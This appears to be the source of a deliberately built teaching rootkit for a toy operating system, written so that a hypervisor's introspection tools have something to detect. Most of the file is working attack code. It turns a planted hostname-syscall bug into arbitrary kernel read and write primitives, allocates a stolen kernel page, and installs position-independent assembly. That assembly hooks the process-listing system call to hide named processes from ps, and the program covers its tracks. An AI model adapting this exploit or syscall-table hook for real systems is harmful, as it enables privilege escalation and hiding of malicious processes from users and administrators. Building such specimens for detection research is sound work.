/*
 * rootkit: A TEACHING SPECIMEN. It hides processes from ps by hooking a system call, the way
 * the kernel rootkits Livewire was built to catch did it (Garfinkel and Rosenblum, NDSS 2003).
 * It exists so that `vmi lies`, `vmi kernel` and `vmi restore` have something real to find and
 * undo (scripts/rootkit-hvos.hv, ./hv lecture introspection). Do not imitate it outside hvos.
 *
 *     rootkit hide NAME      ps no longer shows processes called NAME
 *     rootkit unhide         the system call points where it did before
 *
 * A user program runs at CPL 3 and cannot touch kernel memory: a page fault would kill it. So
 * it comes in the way real ones do, through a kernel bug: hvos's hostname calls dereference
 * the user's pointer without checking it (kernel/syshostname.c, THE PLANTED BUG), which gives
 * a read and a write of any kernel address (kread, kwrite below). Where things are it learns
 * from the disk's `kallsyms`, the kernel's symbol table (as Linux's /proc/kallsyms told
 * rootkits until kptr_restrict hid it). Then, all from user mode:
 *
 *   1. it takes a page off the kernel's free list, so the allocator will never hand it out;
 *   2. it copies its hook into that page: a small position-independent function that calls
 *      the real sys_procs and then squeezes the entries named NAME out of the caller's buffer;
 *   3. it points syscall_table[SYS_procs] at the hook.
 *
 * From then on every ps, in every process, asks the hook. The guest cannot tell: its kernel
 * text is unchanged and the process still runs, listed in proc_table. From outside, the VMM
 * can: the table entry now points outside the kernel's text (vmi kernel), and the kernel's
 * process table shows what ps does not (vmi lies).
 */
#include <stddef.h>
#include "user.h"
#include "../kernel/trapframe.h"

void *memcpy(void *dst, const void *src, size_t n);   /* ulib.c */

/* The hook, in assembly so that it is position independent and self-contained: it runs from
 * whatever page it is copied to, in the kernel, at CPL 0, on behalf of whichever process
 * called procs(). It is data to this program (it never runs here), copied from hook_start to
 * hook_end. Its first 24 bytes are its configuration, which the rootkit fills in:
 *     +0 "RKIT", a mark to find it again    +4 the real handler    +8 the name to hide (16)
 * int hook(struct trapframe *tf): the real handler fills tf->ebx's buffer with n procinfos;
 * the hook copies down the ones whose name differs and returns how many it kept. */
#define HOOK_CONFIG 24
__attribute__((used)) static void hook_source(void) {
    __asm__ volatile(
        ".pushsection .text.hook, \"ax\"\n"
        ".globl hook_start, hook_entry, hook_end\n"
        ".p2align 2\n"
        "hook_start:\n"
        "  .ascii \"RKIT\"\n"
        "  .long 0\n"
        "  .space 16\n"
        "hook_entry:\n"
        "  push %%ebp\n"
        "  mov %%esp, %%ebp\n"
        "  push %%ebx\n"
        "  push %%esi\n"
        "  push %%edi\n"
        "  call 1f\n"                          /* where am I? (no absolute address works here) */
        "1: pop %%ebx\n"
        "  sub $(1b - hook_start), %%ebx\n"   /* ebx: the configuration */
        "  pushl 8(%%ebp)\n"
        "  call *4(%%ebx)\n"                  /* n = the real sys_procs(tf) */
        "  add $4, %%esp\n"
        "  test %%eax, %%eax\n"
        "  jle 9f\n"
        "  mov 8(%%ebp), %%ecx\n"
        "  mov %c[tf_ebx](%%ecx), %%esi\n"    /* esi: the next entry to look at */
        "  mov %%esi, %%edi\n"                /* edi: where the next kept one goes */
        "  mov %%eax, %%ecx\n"                /* ecx: entries left */
        "  pushl $0\n"                        /* (%%esp): entries kept */
        "  cld\n"
        "2: xor %%edx, %%edx\n"
        "3: movb %c[name](%%esi,%%edx), %%al\n"
        "  cmpb 8(%%ebx,%%edx), %%al\n"
        "  jne 5f\n"                          /* differs: keep it */
        "  test %%al, %%al\n"
        "  jz 6f\n"                           /* the whole name matched: drop it */
        "  inc %%edx\n"
        "  cmp $16, %%edx\n"
        "  jne 3b\n"
        "  jmp 6f\n"
        "5: push %%ecx\n"
        "  mov $(%c[size] / 4), %%ecx\n"
        "  rep movsl\n"                       /* copy it down over any dropped ones */
        "  pop %%ecx\n"
        "  incl (%%esp)\n"
        "  jmp 7f\n"
        "6: add $%c[size], %%esi\n"
        "7: dec %%ecx\n"
        "  jnz 2b\n"
        "  pop %%eax\n"
        "9: pop %%edi\n"
        "  pop %%esi\n"
        "  pop %%ebx\n"
        "  pop %%ebp\n"
        "  ret\n"
        "hook_end:\n"
        ".popsection\n"
        : : [tf_ebx] "i"(offsetof(struct trapframe, ebx)), [name] "i"(offsetof(struct procinfo, name)),
            [size] "i"(sizeof(struct procinfo)));
}
extern const uint8_t hook_start[], hook_entry[], hook_end[];

/* ---- the planted bug, as a read and a write of kernel memory ---- */

static void kread(uint32_t address, void *dst, int n) {
    sethostname((const void *) address, n);     /* the kernel copies from its own memory ... */
    gethostname(dst, n);                         /* ... and hands it back */
}

static void kwrite(uint32_t address, const void *src, int n) {
    for (int done = 0; done < n; done += HOSTNAME_MAX) {
        int take = n - done < HOSTNAME_MAX ? n - done : HOSTNAME_MAX;
        sethostname((const uint8_t *) src + done, take);
        gethostname((void *) (address + done), take);  /* the kernel writes the name where we say */
    }
}

static uint32_t kread32(uint32_t address) {
    uint32_t value;
    kread(address, &value, 4);
    return value;
}

static void kwrite32(uint32_t address, uint32_t value) {
    kwrite(address, &value, 4);
}

/* ---- the kernel's symbols, from the disk's kallsyms (nm's format: "00101234 T name") ---- */

static char symbols[16384];

static int load_symbols(void) {
    int fd = open("kallsyms");
    if (fd < 0) return fd;
    int used = 0, n;
    while (used < (int) sizeof symbols - 1 && (n = read(fd, symbols + used, sizeof symbols - 1 - used)) > 0) used += n;
    close(fd);
    symbols[used] = 0;
    return used;
}

static uint32_t symbol(const char *name) {
    for (char *line = symbols; *line;) {
        char *end = line;
        while (*end && *end != '\n') end++;
        if (end - line > 11 && line[8] == ' ' && line[10] == ' ') {
            int i = 0;
            while (name[i] && line + 11 + i < end && line[11 + i] == name[i]) i++;
            if (!name[i] && line + 11 + i == end) {
                uint32_t value = 0;
                for (int k = 0; k < 8; k++) {
                    char c = line[k];
                    value = value * 16 + (c <= '9' ? c - '0' : c - 'a' + 10);
                }
                return value;
            }
        }
        line = *end ? end + 1 : end;
    }
    printf("rootkit: no symbol %s in kallsyms\n", name);
    exit(1);
}

/* ---- the attack ---- */

int main(int argc, char **argv) {
    int hide = argc == 3 && strcmp(argv[1], "hide") == 0;
    if (!hide && !(argc == 2 && strcmp(argv[1], "unhide") == 0)) {
        printf("usage: rootkit hide NAME | rootkit unhide   (a teaching specimen: see vmi lies, vmi kernel)\n");
        return 1;
    }
    if (hide && strlen(argv[2]) > 15) {
        printf("rootkit: a process name has at most 15 characters\n");
        return 1;
    }
    if (load_symbols() <= 0) {
        printf("rootkit: cannot read kallsyms\n");
        return 1;
    }
    uint32_t table = symbol("syscall_table"), etext = symbol("_etext");
    uint32_t slot = table + 4 * SYS_procs;
    char saved[HOSTNAME_MAX];
    gethostname(saved, sizeof saved);            /* put the name back afterwards: leave no trace */

    uint32_t current = kread32(slot);
    uint32_t installed = current >= etext ? current - (uint32_t) (hook_entry - hook_start) : 0;
    if (installed && kread32(installed) != *(const uint32_t *) hook_start) installed = 0;

    if (!hide) {
        if (!installed) {
            printf("rootkit: not installed (system call %d points at 0x%08x)\n", SYS_procs, current);
        } else {
            uint32_t original = kread32(installed + 4);
            kwrite32(slot, original);
            /* give the page back to the allocator, as kfree would */
            uint32_t free_list = symbol("free_list"), free_pages = symbol("free_pages");
            kwrite32(installed, kread32(free_list));
            kwrite32(free_list, installed);
            kwrite32(free_pages, kread32(free_pages) + 1);
            printf("rootkit: system call %d points at 0x%08x again\n", SYS_procs, original);
        }
        sethostname(saved, sizeof saved);
        return 0;
    }

    uint8_t image[256];
    int size = hook_end - hook_start;
    if (size > (int) sizeof image) {
        printf("rootkit: the hook is too big\n");
        return 1;
    }
    memcpy(image, hook_start, size);
    char name[16] = {0};
    for (int i = 0; argv[2][i]; i++) name[i] = argv[2][i];
    memcpy(image + 8, name, sizeof name);
    if (installed) {
        kwrite(installed + 8, name, sizeof name);  /* already in: only the name changes */
        sethostname(saved, sizeof saved);
        printf("rootkit: now hiding '%s'\n", argv[2]);
        return 0;
    }
    /* 1. a page of kernel memory: the head of kalloc's free list, unlinked (kalloc.c's kalloc,
     *    done from outside; a timer tick in between could race with the kernel, which a real
     *    rootkit would avoid by running this part in the kernel with interrupts off) */
    uint32_t free_list = symbol("free_list"), free_pages = symbol("free_pages");
    uint32_t page = kread32(free_list);
    if (!page) {
        printf("rootkit: the kernel has no free page\n");
        return 1;
    }
    kwrite32(free_list, kread32(page));
    kwrite32(free_pages, kread32(free_pages) - 1);
    /* 2. the hook, with the real handler and the name in its configuration */
    *(uint32_t *) (image + 4) = current;
    kwrite(page, image, size);
    /* 3. the system call, pointed at the hook */
    uint32_t hook = page + HOOK_CONFIG;
    kwrite32(slot, hook);
    sethostname(saved, sizeof saved);
    printf("rootkit: system call %d (procs) now 0x%08x, was 0x%08x; hiding '%s'\n", SYS_procs, hook, current, argv[2]);
    return 0;
}
